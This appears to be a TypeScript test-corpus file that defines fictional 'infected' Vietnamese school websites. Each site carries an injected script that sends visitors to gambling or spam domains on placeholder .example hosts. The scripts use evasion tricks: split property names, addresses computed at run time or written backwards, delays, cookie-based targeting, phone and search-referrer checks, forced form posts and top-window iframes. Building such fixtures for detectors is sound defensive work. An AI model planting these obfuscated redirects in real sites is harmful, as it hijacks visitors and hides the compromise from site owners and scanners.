import type { CorpusSite } from '../../corpus-site.ts';
import { computed, data, drawn, withData } from '../drawn.ts';

/** Sites that send visitors away by code which shows its target only when it runs. */
export const sites: readonly CorpusSite[] = [
  drawn('infected', {
    id: 'leaves-by-fetched-address',
    about: 'the script fetches a list of the site itself and leaves for the first address in it',
    platform: 'wordpress',
    school: 'Trường THCS Rẽ Lối Xanh',
    code: withData('/wp-content/uploads/cache/menu.json', 'var w=window;w["loc"+"ation"]=d.items[0].u'),
    more: {
      '/wp-content/uploads/cache/menu.json': data({ items: [{ u: 'https://nhacai-vip88.example/?s=edu' }] }),
    },
  }),
  drawn('infected', {
    id: 'leaves-by-computed-address',
    about: 'the script works its target out of numbers',
    platform: 'joomla',
    school: 'Trường THPT Số Học Xanh',
    code: `var a=${computed('https://tin-moi-24h.example/vao')};var b=${computed('replace')};window[${computed('location')}][b](a)`,
  }),
  drawn('infected', {
    id: 'leaves-after-some-seconds',
    about: 'a timer leaves two and a half seconds after the page has come, for an address written backwards',
    platform: 'nukeviet',
    school: 'Trường THCS Đồng Hồ Xanh',
    end: '<div id="w1" data-k="oav/elpmaxe.mohk-gnauq//:sptth" hidden></div>',
    code: 'var k=document.getElementById("w1").dataset.k.split("").reverse().join("");setTimeout(function(){top["lo"+"cation"].assign(k)},2500)',
  }),
  drawn('infected', {
    id: 'leaves-on-first-click',
    about: 'the first click anywhere opens a stranger in a new window',
    platform: 'dotnetnuke',
    school: 'Trường Tiểu học Nhấp Chuột Xanh',
    code: withData(
      '/api/popup.json',
      'var f=window["op"+"en"];document.addEventListener("click",function h(){document.removeEventListener("click",h,true);f(d.to,"_blank")},true)',
    ),
    more: { '/api/popup.json': data({ to: 'https://xem-phim-dem.example/' }) },
  }),
  drawn('infected', {
    id: 'leaves-first-visit-only',
    about: 'only who comes for the first time is sent away; a mark in the browser says who was here',
    platform: 'wordpress',
    school: 'Trường THPT Lần Đầu Xanh',
    code: `var s=window["local"+"Storage"],k="_vx";if(!s[k]){s[k]=1;var l=window["locat"+"ion"];l["hr"+"ef"]=${computed('https://trung-qua-lon.example/nhan')}}`,
  }),
  drawn('infected', {
    id: 'leaves-second-visit-only',
    about: 'the first visit is quiet; who comes back is sent away',
    platform: 'nukeviet',
    school: 'Trường THCS Trở Lại Xanh',
    code: `var n=(document.cookie.match(/_n=(\\d+)/)||[0,0])[1]*1+1;document.cookie="_n="+n+";path=/;max-age=86400";if(n===2){window["locat"+"ion"]["repl"+"ace"](${computed('https://cuoc-bong-dem.example/')})}`,
  }),
  drawn('infected', {
    id: 'leaves-for-search-visitors',
    about: 'only visitors of a search engine are sent away; the names are worked out at run time',
    platform: 'shared-portal',
    school: 'Trường Tiểu học Tìm Kiếm Xanh',
    code: `var r=document[${computed('referrer')}]||"";if(r.indexOf(${computed('google.')})>0){window[${computed('location')}]=${computed('https://keo-thom-88.example/')}}`,
  }),
  drawn('infected', {
    id: 'leaves-for-phones',
    about: 'only phones are sent away, told by a name that is worked out at run time',
    platform: 'wordpress',
    school: 'Trường THPT Di Động Xanh',
    code: `var u=navigator[${computed('userAgent')}];if(new RegExp(${computed('Android|iPhone|Mobile')}).test(u)){window[${computed('location')}]=${computed('https://app-tai-xiu.example/')}}`,
  }),
  drawn('infected', {
    id: 'leaves-by-made-form',
    about: 'phones of a search engine send a form that the script makes',
    platform: 'hand-made',
    school: 'Trường THCS Biểu Mẫu Xanh',
    code: `if(document[${computed('referrer')}]&&screen.height>screen.width){var f=document.createElement("fo"+"rm");f.method="post";f["act"+"ion"]=${computed('https://gop-tin.example/c')};document.body.appendChild(f);f["sub"+"mit"]()}`,
  }),
  drawn('infected', {
    id: 'leaves-through-own-page',
    about: 'the script goes to a page of the site itself, which answers with a redirect to a stranger',
    platform: 'joomla',
    school: 'Trường THCS Trung Chuyển Xanh',
    code: withData('/media/cfg.json', 'document[d.a][d.b]=d.c'),
    more: {
      '/media/cfg.json': data({ a: 'location', b: 'href', c: '/media/xem-them' }),
      '/media/xem-them': { status: 302, headers: { location: 'https://sieu-thi-cuoc.example/' } },
    },
  }),
  drawn('infected', {
    id: 'leaves-by-frame',
    about: 'a frame of the site itself, made by the script, takes the whole window away',
    platform: 'dotnetnuke',
    school: 'Trường Tiểu học Khung Nhỏ Xanh',
    code: `var i=document.createElement("ifr"+"ame");i.width=300;i.height=90;i[${computed('src')}]=${computed('/qc/khung')};document.body.appendChild(i)`,
    more: {
      '/qc/khung': `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Khung</title></head><body><script>window[${computed('top')}][${computed('location')}]=${computed('https://kiem-tien-nhanh.example/')}</script></body></html>`,
    },
  }),
];
